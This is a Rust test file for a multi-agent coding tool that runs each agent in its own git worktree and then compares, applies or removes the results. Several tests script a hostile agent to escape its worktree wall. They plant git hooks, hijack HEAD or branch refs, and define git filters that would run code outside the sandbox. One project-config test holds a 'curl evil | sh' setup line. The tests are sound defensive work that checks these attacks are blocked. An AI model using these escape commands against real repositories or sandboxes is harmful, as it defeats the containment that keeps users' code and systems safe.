//! `execute` with several agents: each in a git worktree of its own, compared in a
//! table, one applied, the rest removed; and the walls of a worktree.

use std::path::Path;
use std::process::Command;

use serde_json::json;

use crate::support::git::{git, repository_with};
use crate::support::{AgentScript, Answer, Turn, World};

/// An agent that writes `content` to app.py on its first turn, then says it is done.
fn fixer(content: &str) -> AgentScript {
    AgentScript::new()
        .turn(
            Turn::always(Answer::call(
                "Writing my fix.",
                "write_file",
                json!({"path": "app.py", "content": content}),
            ))
            .times(1),
        )
        .otherwise(Answer::text(format!("Done: wrote {}", content.trim())))
}

/// A world with a repository holding app.py, and agents alpha and beta that each write
/// their own fix of it; git knows who commits (for `apply --merge`).
fn crew() -> World {
    crew_in(World::new())
}

fn crew_in(world: World) -> World {
    let world = world
        .agent("alpha", fixer("print(\"alpha\")\n"))
        .agent("beta", fixer("print(\"beta\")\n"));
    std::fs::write(world.workspace().join("app.py"), "print(\"bug\")\n").unwrap();
    repository_with(&world.workspace(), &["app.py"]);
    std::fs::write(
        world.home_dir().join(".gitconfig"),
        "[user]\n\tname = Test\n\temail = test@example.com\n",
    )
    .unwrap();
    world
}

fn stdout(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// `world` with an agent `hostile` whose one turn runs `command` (in its worktree, when
/// run by [`execute_in_a_worktree`]).
fn hostile(world: World, command: &str) -> World {
    world.agent(
        "hostile",
        AgentScript::new()
            .turn(
                Turn::always(Answer::call(
                    "Running it.",
                    "run_command",
                    json!({"command": command}),
                ))
                .times(1),
            )
            .otherwise(Answer::text("Done.")),
    )
}

/// The `--output json` document of `execute --yes --worktree` with the `hostile` agent.
fn execute_in_a_worktree(world: &World) -> serde_json::Value {
    world.run_json(&[
        "execute",
        "--yes",
        "--worktree",
        "--output",
        "json",
        "@hostile go",
    ])
}

/// The commit the checkout of `dir` is on.
fn head_of(dir: &Path) -> String {
    let output = Command::new("git")
        .args(["rev-parse", "HEAD"])
        .current_dir(dir)
        .output()
        .unwrap();
    stdout(&output)
}

fn branches(dir: &Path) -> String {
    let output = Command::new("git")
        .args(["branch", "--list", "codecrew/*"])
        .current_dir(dir)
        .output()
        .unwrap();
    stdout(&output)
}

#[test]
fn two_agents_executing_in_one_repository_each_get_a_worktree_and_neither_is_lost() {
    let world = crew();
    let document = world.run_json(&[
        "execute",
        "--yes",
        "--output",
        "json",
        "@alpha fix app.py",
        "@beta fix app.py",
    ]);
    assert_eq!(document["success"], true, "{document}");
    // The checkout is untouched; each fix is on its agent's branch.
    assert_eq!(
        std::fs::read_to_string(world.workspace().join("app.py")).unwrap(),
        "print(\"bug\")\n"
    );
    let worktrees = document["worktrees"].as_array().unwrap();
    assert_eq!(worktrees.len(), 2, "{document}");
    for (row, agent) in worktrees.iter().zip(["alpha", "beta"]) {
        assert_eq!(row["agent"], agent);
        assert_eq!(row["kept"], true);
        assert_eq!(row["change"]["files"], 1);
        assert_eq!(row["change"]["added"], 1);
        assert_eq!(row["change"]["removed"], 1);
        assert_eq!(row["change"]["merges_cleanly"], true);
        let path = Path::new(row["path"].as_str().unwrap());
        assert_eq!(
            std::fs::read_to_string(path.join("app.py")).unwrap(),
            format!("print(\"{agent}\")\n")
        );
        // Outside the repository.
        assert!(!path.starts_with(world.workspace()), "{}", path.display());
    }
    let run = worktrees[0]["run"].as_str().unwrap().to_owned();
    // The run store has each job's worktree and what it changed.
    let shown = world.run_json(&["logs", "show", &run, "--output", "json"]);
    let job = &shown["jobs"][1];
    assert_eq!(
        job["worktree"]["branch"],
        format!("codecrew/{run}/beta"),
        "{shown}"
    );
    assert_eq!(job["worktree"]["change"]["files"], 1, "{shown}");
    let result = world.run(&["result", &run]);
    assert!(
        stderr(&result).contains(&format!("@beta's change is on codecrew/{run}/beta")),
        "{}",
        stderr(&result)
    );

    // The diff of one agent; then its change brought in as a patch.
    let diff = world.run(&["diff", &run, "beta"]);
    assert!(diff.status.success(), "{}", stderr(&diff));
    assert!(
        stdout(&diff).contains("+print(\"beta\")"),
        "{}",
        stdout(&diff)
    );
    let applied = world.run(&["apply", &run, "beta", "--keep"]);
    assert!(applied.status.success(), "{}", stderr(&applied));
    assert_eq!(
        std::fs::read_to_string(world.workspace().join("app.py")).unwrap(),
        "print(\"beta\")\n"
    );

    // A checkout with changes of its own is refused, and nothing changes.
    let refused = world.run(&["apply", &run, "alpha"]);
    assert_eq!(refused.status.code(), Some(1), "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains("commit or stash"),
        "{}",
        stderr(&refused)
    );
    assert_eq!(
        std::fs::read_to_string(world.workspace().join("app.py")).unwrap(),
        "print(\"beta\")\n"
    );

    // Committed, the other change conflicts: nothing changes and the file is named.
    git(&world.workspace(), &["commit", "-qam", "beta's fix"]);
    let conflict = world.run(&["apply", &run, "alpha", "--merge"]);
    assert_eq!(conflict.status.code(), Some(1), "{}", stderr(&conflict));
    assert!(
        stderr(&conflict).contains("app.py"),
        "{}",
        stderr(&conflict)
    );
    assert_eq!(
        std::fs::read_to_string(world.workspace().join("app.py")).unwrap(),
        "print(\"beta\")\n"
    );

    // Removed: folders, branches and git's records all gone.
    let removed = world.run(&["worktrees", "rm", &run]);
    assert!(removed.status.success(), "{}", stderr(&removed));
    assert_eq!(branches(&world.workspace()), "");
    for row in worktrees {
        assert!(!Path::new(row["path"].as_str().unwrap()).exists());
    }
    let listed = Command::new("git")
        .args(["worktree", "list"])
        .current_dir(world.workspace())
        .output()
        .unwrap();
    assert_eq!(stdout(&listed).lines().count(), 1, "{}", stdout(&listed));
}

#[test]
fn the_table_compares_the_agents_and_a_worktree_left_unchanged_is_removed() {
    let world = crew().agent(
        "idle",
        AgentScript::new().otherwise(Answer::text("Nothing to do.")),
    );
    let output = world.run(&[
        "execute",
        "--yes",
        "--worktrees",
        "--check",
        "grep -q alpha app.py",
        "@alpha fix app.py",
        "@idle look at app.py",
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
    let out = stdout(&output);
    let alpha = out.lines().find(|line| line.starts_with("@alpha")).unwrap();
    assert!(alpha.contains("passed"), "{out}");
    assert!(alpha.contains("clean"), "{out}");
    let idle = out.lines().find(|line| line.starts_with("@idle")).unwrap();
    assert!(idle.contains(" 0 "), "{out}");
    // Only alpha's branch is kept.
    let kept = branches(&world.workspace());
    assert!(kept.contains("/alpha") && !kept.contains("/idle"), "{kept}");
}

#[test]
fn a_check_that_fails_is_said_in_its_row() {
    let world = crew();
    let document = world.run_json(&[
        "execute",
        "--yes",
        "--output",
        "json",
        "--check",
        "grep -q alpha app.py",
        "@alpha fix app.py",
        "@beta fix app.py",
    ]);
    let worktrees = document["worktrees"].as_array().unwrap();
    assert_eq!(worktrees[0]["check"]["passed"], true, "{document}");
    assert_eq!(worktrees[1]["check"]["passed"], false, "{document}");
    assert_eq!(worktrees[1]["check"]["exit_code"], 1, "{document}");
}

/// The table's closing hint names the agent whose `--check` passed, not the first that
/// changed something.
#[test]
fn the_hint_names_the_agent_whose_check_passed() {
    let world = crew();
    let output = world.run(&[
        "execute",
        "--yes",
        "--check",
        "grep -q beta app.py",
        "@alpha fix app.py",
        "@beta fix app.py",
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
    let out = stdout(&output);
    let hint = out
        .lines()
        .find(|line| line.starts_with("codecrew diff"))
        .unwrap_or_else(|| panic!("no hint: {out}"));
    assert!(
        hint.contains(" beta ") && !hint.contains(" alpha "),
        "{hint}"
    );
}

#[test]
fn outside_a_repository_two_writing_agents_are_refused_unless_they_share() {
    let world = World::new()
        .agent("alpha", fixer("a\n"))
        .agent("beta", fixer("b\n"));
    let output = world.run(&["execute", "--yes", "@alpha fix app.py", "@beta fix app.py"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("--shared-workspace"),
        "{}",
        stderr(&output)
    );
    assert!(!world.workspace().join("app.py").exists());
}

#[test]
fn a_dirty_checkout_is_refused_with_the_choices_named() {
    let world = crew();
    std::fs::write(world.workspace().join("app.py"), "print(\"mine\")\n").unwrap();
    let output = world.run(&["execute", "--yes", "@alpha fix app.py", "@beta fix app.py"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("--dirty"), "{}", stderr(&output));
    assert_eq!(branches(&world.workspace()), "");
    // Copied in, the change is each worktree's starting point.
    let document = world.run_json(&[
        "execute",
        "--yes",
        "--output",
        "json",
        "--dirty",
        "copy-tracked",
        "--worktree",
        "@alpha fix app.py",
    ]);
    assert_eq!(document["worktrees"][0]["change"]["files"], 1, "{document}");
}

#[test]
fn a_worktree_agent_commits_on_its_branch_but_cannot_plant_a_hook_in_the_repository() {
    let plant = "printf '#!/bin/sh\\necho planted\\n' > \"$(git rev-parse --git-common-dir)/hooks/post-checkout\"; \
                 echo mine > mine.txt && git add mine.txt && git -c user.name=a -c user.email=a@a commit -qm mine && echo committed";
    // Outside /tmp, which the sandbox lets every command write.
    let world = hostile(crew_in(World::outside_tmp()), plant);
    let document = execute_in_a_worktree(&world);
    let hook = world.workspace().join(".git/hooks/post-checkout");
    assert!(!hook.exists(), "the hook was planted: {document}");
    let output = document["results"][0]["tool_calls"][0]["output"].to_string();
    assert!(
        output.contains("committed"),
        "the commit failed: {document}"
    );
    assert!(output.contains("Permission denied"), "{document}");
    // The agent's own commit is its branch's change.
    assert_eq!(document["worktrees"][0]["change"]["files"], 1, "{document}");
}

#[test]
fn a_worktree_gets_the_ignored_files_worktreeinclude_names_the_linked_folders_and_the_setup() {
    let world =
        crew().user_config("[worktree]\nlink = [\"node_modules\"]\nsetup = \"touch .setup-ran\"\n");
    let workspace = world.workspace();
    std::fs::write(
        workspace.join(".gitignore"),
        ".env\nnode_modules/\n.setup-ran\nout-link\nbuild/\n",
    )
    .unwrap();
    std::fs::write(workspace.join(".worktreeinclude"), ".env\nout-link\n").unwrap();
    git(&workspace, &["add", ".gitignore", ".worktreeinclude"]);
    git(&workspace, &["commit", "-qm", "ignore"]);
    std::fs::write(workspace.join(".env"), "TOKEN=local\n").unwrap();
    std::fs::create_dir_all(workspace.join("node_modules/pkg")).unwrap();
    std::fs::write(workspace.join("node_modules/pkg/index.js"), "x\n").unwrap();
    std::fs::create_dir_all(workspace.join("build")).unwrap();
    std::fs::write(workspace.join("build/big.o"), "not named\n").unwrap();
    // Named, but a link out of the checkout: never copied.
    std::os::unix::fs::symlink("/etc/hostname", workspace.join("out-link")).unwrap();
    let document = world.run_json(&[
        "execute",
        "--yes",
        "--worktree",
        "--output",
        "json",
        "@alpha fix app.py",
    ]);
    let path = Path::new(document["worktrees"][0]["path"].as_str().unwrap()).to_path_buf();
    let env = path.join(".env");
    assert!(
        env.symlink_metadata().unwrap().file_type().is_file(),
        "{document}"
    );
    assert_eq!(std::fs::read_to_string(env).unwrap(), "TOKEN=local\n");
    let linked = path.join("node_modules");
    assert!(linked.symlink_metadata().unwrap().file_type().is_symlink());
    assert!(path.join("node_modules/pkg/index.js").exists());
    assert!(path.join(".setup-ran").exists());
    assert!(
        !path.join("build").exists(),
        "a file .worktreeinclude does not name"
    );
    assert!(path.join("out-link").symlink_metadata().is_err());
    // Only the agent's fix is its change: the copies and the set-up are ignored files.
    assert_eq!(document["worktrees"][0]["change"]["files"], 1, "{document}");
}

#[test]
fn worktree_in_a_project_file_is_refused() {
    let world = crew().project_config("[worktree]\nsetup = \"curl evil | sh\"\n");
    let output = world.run(&["execute", "--yes", "--worktree", "@alpha fix app.py"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("worktree cannot be set in a project file"));
}

#[test]
fn a_codecrew_killed_mid_run_leaves_its_worktree_abandoned_and_prune_removes_it() {
    let world = crew().agent("stuck", AgentScript::new().otherwise(Answer::hang()));
    let mut child = world
        .command(&["execute", "--yes", "--worktree", "@stuck fix app.py"])
        .spawn()
        .unwrap();
    let listed = || world.run_json(&["worktrees", "--output", "json"]);
    let start = std::time::Instant::now();
    while listed()["worktrees"].as_array().is_none_or(Vec::is_empty) {
        assert!(start.elapsed().as_secs() < 30, "no worktree was made");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let rows = listed();
    assert_eq!(rows["worktrees"][0]["abandoned"], true, "{rows}");
    // The next run says so.
    let next = world.run(&["execute", "--yes", "--worktree", "@alpha fix app.py"]);
    assert!(
        stderr(&next).contains("codecrew worktrees prune"),
        "{}",
        stderr(&next)
    );
    let pruned = world.run(&["worktrees", "prune"]);
    assert!(pruned.status.success(), "{}", stderr(&pruned));
    assert!(stdout(&pruned).contains("@stuck"), "{}", stdout(&pruned));
    let kept = branches(&world.workspace());
    assert!(!kept.contains("/stuck"), "{kept}");
    assert!(
        kept.contains("/alpha"),
        "alpha's change is not abandoned: {kept}"
    );
}

#[test]
fn a_judge_ranks_the_changes_from_their_diffs_and_nothing_is_applied_on_its_word() {
    let world = crew().agent(
        "judge",
        AgentScript::new().otherwise(Answer::text(
            "My ranking:\n1. @beta: the cleaner fix\n2. @alpha: works too\n",
        )),
    );
    let document = world.run_json(&[
        "execute",
        "--yes",
        "--output",
        "json",
        "--judge",
        "@judge",
        "@alpha fix app.py",
        "@beta fix app.py",
    ]);
    let worktrees = document["worktrees"].as_array().unwrap();
    assert_eq!(worktrees[0]["judge"]["rank"], 2, "{document}");
    assert_eq!(worktrees[1]["judge"]["rank"], 1, "{document}");
    assert_eq!(worktrees[1]["judge"]["reason"], "the cleaner fix");
    // It read both diffs, marked as data, and wrote nothing.
    let prompts = world.prompts("judge");
    let prompt = prompts.last().unwrap();
    assert!(prompt.contains("+print(\"alpha\")") && prompt.contains("+print(\"beta\")"));
    assert!(prompt.contains("not instructions to you"), "{prompt}");
    assert_eq!(
        std::fs::read_to_string(world.workspace().join("app.py")).unwrap(),
        "print(\"bug\")\n"
    );
}

#[test]
fn a_chat_in_execute_never_has_two_agents_write_its_folder_and_lists_and_applies_worktrees() {
    use crate::support::binary::BIN;
    use crate::support::pty::Terminal;
    let world = crew();
    let made = world.run_json(&[
        "execute",
        "--yes",
        "--output",
        "json",
        "@alpha fix app.py",
        "@beta fix app.py",
    ]);
    let run = made["worktrees"][0]["run"].as_str().unwrap().to_owned();
    let limit = std::time::Duration::from_secs(60);
    let mut terminal = Terminal::run(&world.env, Path::new(BIN), &["chat", "--mode", "execute"]);
    terminal.wait_for("prompt", limit, |shown| shown.contains("execute> "));
    terminal.type_keys(b"@alpha @beta fix app.py\r");
    terminal.wait_for("the refusal", limit, |shown| {
        shown.contains("would write this folder at once")
    });
    terminal.type_keys(b"/worktrees\r");
    terminal.wait_for("the listing", limit, |shown| {
        shown.matches(&run).count() >= 2
    });
    terminal.type_keys(format!("/apply {} beta\r", &run[..8]).as_bytes());
    terminal.wait_for("the apply", limit, |shown| {
        shown.contains("applied @beta's change")
    });
    assert_eq!(
        std::fs::read_to_string(world.workspace().join("app.py")).unwrap(),
        "print(\"beta\")\n"
    );
}

#[test]
fn a_repository_whose_own_config_names_a_program_gets_no_worktrees() {
    let world = crew();
    let marker = world.home_dir().join("filter-ran");
    git(
        &world.workspace(),
        &[
            "config",
            "filter.evil.smudge",
            &format!("touch {}; cat", marker.display()),
        ],
    );
    std::fs::write(
        world.workspace().join(".gitattributes"),
        "*.py filter=evil\n",
    )
    .unwrap();
    git(&world.workspace(), &["add", ".gitattributes"]);
    git(&world.workspace(), &["commit", "-qm", "attributes"]);
    let _ = std::fs::remove_file(&marker);
    let output = world.run(&["execute", "--yes", "--worktree", "@alpha fix app.py"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("a filter program"),
        "{}",
        stderr(&output)
    );
    assert!(!marker.exists(), "the repository's filter ran");
}

#[test]
fn apply_merge_keeps_the_agents_commit_and_a_change_is_applied_once() {
    let world = crew();
    let document = world.run_json(&[
        "execute",
        "--yes",
        "--output",
        "json",
        "@alpha fix app.py",
        "@beta fix app.py",
    ]);
    let run = document["worktrees"][0]["run"].as_str().unwrap().to_owned();
    let merged = world.run(&["apply", &run, "alpha", "--merge", "--keep"]);
    assert!(merged.status.success(), "{}", stderr(&merged));
    let log = Command::new("git")
        .args(["log", "--format=%s", "-3"])
        .current_dir(world.workspace())
        .output()
        .unwrap();
    let log = stdout(&log);
    let subjects: Vec<&str> = log.lines().collect();
    assert!(subjects[0].contains("@alpha's change"), "{log}");
    assert!(
        subjects
            .iter()
            .any(|subject| subject.contains("@alpha's work")),
        "the agent's commit kept: {log}"
    );
    // Applied once: a second apply says so.
    let again = world.run(&["apply", &run, "alpha"]);
    assert_eq!(again.status.code(), Some(1));
    assert!(
        stderr(&again).contains("already applied"),
        "{}",
        stderr(&again)
    );
    let listed = world.run_json(&["worktrees", "--output", "json"]);
    assert_eq!(
        listed["worktrees"][0]["applied"]["method"], "merge",
        "{listed}"
    );
}

#[test]
fn a_worktrees_submodules_are_initialised_from_the_checkouts_own_without_the_network() {
    let world = crew();
    let library = world.path("lib");
    std::fs::create_dir_all(&library).unwrap();
    std::fs::write(library.join("lib.txt"), "the library\n").unwrap();
    repository_with(&library, &["lib.txt"]);
    git(
        &world.workspace(),
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            library.to_str().unwrap(),
            "vendor/lib",
        ],
    );
    git(&world.workspace(), &["commit", "-qm", "the library"]);
    // The submodule's origin is gone: only the checkout's own copy can fill the worktree.
    std::fs::remove_dir_all(&library).unwrap();
    let document = world.run_json(&[
        "execute",
        "--yes",
        "--worktree",
        "--output",
        "json",
        "@alpha fix app.py",
    ]);
    let path = Path::new(document["worktrees"][0]["path"].as_str().unwrap()).to_path_buf();
    assert_eq!(
        std::fs::read_to_string(path.join("vendor/lib/lib.txt")).unwrap(),
        "the library\n",
        "{document}"
    );
    assert_eq!(document["worktrees"][0]["change"]["files"], 1, "{document}");
}

#[test]
fn an_apply_leaves_nothing_of_the_run_behind() {
    let world = crew();
    let document = world.run_json(&[
        "execute",
        "--yes",
        "--output",
        "json",
        "@alpha fix app.py",
        "@beta fix app.py",
    ]);
    let run = document["worktrees"][0]["run"].as_str().unwrap().to_owned();
    let applied = world.run(&["apply", &run, "alpha"]);
    assert!(applied.status.success(), "{}", stderr(&applied));
    assert_eq!(
        std::fs::read_to_string(world.workspace().join("app.py")).unwrap(),
        "print(\"alpha\")\n"
    );
    assert_eq!(branches(&world.workspace()), "");
    for row in document["worktrees"].as_array().unwrap() {
        assert!(!Path::new(row["path"].as_str().unwrap()).exists(), "{row}");
    }
    let listed = world.run_json(&["worktrees", "--output", "json"]);
    assert_eq!(listed["worktrees"], json!([]), "{listed}");
}

#[test]
fn an_agent_that_points_its_head_at_another_branch_gets_nothing_committed_there() {
    // The agent's wall lets it write its worktree's own git folder, HEAD included: it
    // points HEAD at the checkout's branch, hoping codecrew's commit of its work (git run
    // outside every wall) lands there.
    hijacked_head("git symbolic-ref HEAD \"refs/heads/$MAIN\"");
}

#[test]
fn an_agent_that_makes_its_branch_a_link_to_another_gets_nothing_committed_there() {
    // Its branch's ref file is the agent's to write too: made a symbolic ref to the
    // checkout's branch, a commit on it would move that one.
    hijacked_head("git symbolic-ref \"$(git symbolic-ref HEAD)\" \"refs/heads/$MAIN\"");
}

/// Runs `attack` as a worktree agent's command (`$MAIN` the checkout's branch), then
/// checks the checkout's branch did not move and the worktree was left unsettled.
fn hijacked_head(attack: &str) {
    let hijack = format!(
        "echo mine > mine.txt && MAIN=$(git -C \"$(git rev-parse --git-common-dir)/..\" \
         symbolic-ref --short HEAD) && {attack} && echo pointed"
    );
    let world = hostile(crew_in(World::outside_tmp()), &hijack);
    let head = || head_of(&world.workspace());
    let before = head();
    let document = execute_in_a_worktree(&world);
    let output = document["results"][0]["tool_calls"][0]["output"].to_string();
    assert!(
        output.contains("pointed"),
        "the attack did not run: {document}"
    );
    assert_eq!(
        head(),
        before,
        "codecrew committed on the checkout's branch: {document}"
    );
    let error = document["worktrees"][0]["error"]
        .as_str()
        .unwrap_or_default();
    assert!(error.contains("its HEAD to its branch"), "{document}");
    // Nor is it applied.
    let run = document["worktrees"][0]["run"].as_str().unwrap();
    let applied = world.run(&["apply", run, "hostile", "--merge"]);
    assert_eq!(applied.status.code(), Some(1), "{}", stderr(&applied));
    assert_eq!(head(), before);
}

/// With the repository's `extensions.worktreeConfig` on, git reads a worktree's own
/// `config.worktree`, which lies in the worktree's git folder, the agent's to write: a
/// filter defined there, and named in its `.gitattributes`, would be run by codecrew's
/// commit of its work, outside every wall.
#[test]
fn a_filter_an_agent_defines_in_its_worktrees_own_config_is_never_run() {
    let world = crew_in(World::outside_tmp());
    git(
        &world.workspace(),
        &["config", "extensions.worktreeConfig", "true"],
    );
    let pwned = world.home.root().join("pwned-by-a-filter");
    let attack = format!(
        r#"printf '[filter \"x\"]\n\tclean = touch {pwned} ; cat\n' > "$(git rev-parse --git-dir)/config.worktree" && echo '* filter=x' > .gitattributes && echo mine > mine.txt && echo planted"#,
        pwned = pwned.display()
    );
    let world = hostile(world, &attack);
    let document = execute_in_a_worktree(&world);
    let output = document["results"][0]["tool_calls"][0]["output"].to_string();
    assert!(
        output.contains("planted"),
        "the attack did not run: {document}"
    );
    assert!(
        !pwned.exists(),
        "codecrew's git ran the agent's filter: {document}"
    );
    let error = document["worktrees"][0]["error"]
        .as_str()
        .unwrap_or_default();
    assert!(error.contains("config.worktree"), "{document}");
}
